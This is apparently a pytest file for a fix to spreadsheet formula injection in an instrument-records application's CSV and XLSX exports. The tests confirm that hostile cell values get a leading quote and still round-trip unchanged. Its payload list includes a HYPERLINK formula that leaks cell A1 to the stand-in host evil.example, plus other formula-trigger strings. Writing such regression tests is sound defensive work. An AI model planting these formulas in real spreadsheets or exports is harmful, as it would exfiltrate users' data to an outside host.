"""Spreadsheet formula injection (issue 16): a name like =HYPERLINK("http://evil.example/?leak="&A1,"click")
came out of the XLSX export as a live formula, and =, +, -, @, tab and CR-led values came out of the CSV
exports unprefixed. Every exported text cell is now neutralised as OWASP describes (a leading quote), XLSX
text is stored as text, genuine numbers stay numbers, and an exported file still imports unchanged."""

from __future__ import annotations

import csv
import dataclasses
import io
import zipfile

import pytest
from openpyxl import load_workbook  # type: ignore[import-untyped]

from jiliang.domain.spreadsheet import neutralise, restore
from jiliang.services import instruments, transfer
from jiliang.services.traceability import ImpactReport, RecalledRecord, impact_csv
from jiliang.services.transfer import reading
from jiliang.services.transfer.columns import INSTRUMENT_COLUMNS
from tests.factories import World, authorise_all, instrument_raw

FUEL = "09.01"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE = [EVIL, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "＝1+1", "'=already quoted"]


@pytest.mark.parametrize("text", HOSTILE)
def test_owasp_triggers_get_a_leading_quote_and_come_back_exactly(text: str) -> None:
    out = neutralise(text)
    assert isinstance(out, str) and out.startswith("'") and out[1:] == text
    assert restore(out) == text


@pytest.mark.parametrize(
    "value", ["-12.5", "+3", "-1e-3", ".5", -7, 2.5, None, "ABC-1", "浙计检字第1号", "'plain"]
)
def test_numbers_and_harmless_text_are_left_alone(value: object) -> None:
    assert neutralise(value) == value
    if isinstance(value, str):
        assert restore(value) == value


def _file_hostile(world: World) -> list[str]:
    """File one instrument per hostile text (as name and place); return the names as stored."""
    authorise_all(world, [FUEL])
    stored = []
    for n, text in enumerate(HOSTILE):
        raw = instrument_raw(f"H-{n}", item_code=FUEL, location=text)
        raw["name"] = text
        stored.append(instruments.file_instrument(world.platform, world.as_("enterprise"), raw).name)
    return sorted(stored)


def test_the_csv_export_neutralises_every_hostile_cell_and_imports_again_unchanged(world: World) -> None:
    stored = _file_hostile(world)
    assert EVIL in stored and "+1+1" in stored
    sink = io.BytesIO()
    transfer.export_instruments(world.platform, world.as_("city"), {}, sink, fmt="csv", headers="en")
    rows = list(csv.DictReader(io.StringIO(sink.getvalue().decode("utf-8-sig"))))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for value in (row["name"], row["location"]):
            assert value[:1] not in set("=+-@\t\r＝"), value
    assert sorted(restore(r["name"]) for r in rows) == stored
    # the same file, read back by the importer, gives back the original text
    for fmt in ("csv", "xlsx"):
        again = io.BytesIO()
        transfer.export_instruments(world.platform, world.as_("city"), {}, again, fmt=fmt, headers="en")
        again.seek(0)
        sheet = reading.open_sheet(again, fmt, INSTRUMENT_COLUMNS, reading.Problems(limit=10), 10**8)
        read = [r for _, r in sheet.rows if r]
        assert sorted(r["name"] for r in read) == stored, fmt


def test_the_xlsx_export_has_no_formula_and_stores_text_as_text(world: World) -> None:
    _file_hostile(world)
    sink = io.BytesIO()
    transfer.export_instruments(world.platform, world.as_("city"), {}, sink, fmt="xlsx", headers="en")
    sheet_xml = zipfile.ZipFile(io.BytesIO(sink.getvalue())).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"HYPERLINK" in sheet_xml
    book = load_workbook(io.BytesIO(sink.getvalue()))
    cells = [c for row in book.active.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    assert cells and all(c.data_type == "s" for c in cells)
    assert all(not c.value.startswith(tuple("=+-@\t\r＝")) for c in cells)


def test_the_recall_csv_neutralises_document_numbers_and_serials() -> None:
    from datetime import date

    record = RecalledRecord(
        **{f.name: None for f in dataclasses.fields(RecalledRecord)}
        | {"record_id": 1, "document_no": "@cmd", "verified_on": date(2025, 1, 1), "serial_number": EVIL}
    )
    report = ImpactReport(
        **{f.name: None for f in dataclasses.fields(ImpactReport)} | {"calibrations": [], "records": [record]}
    )
    text = impact_csv(report)
    row = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))[1]
    assert "'@cmd" in row and "'" + EVIL in row
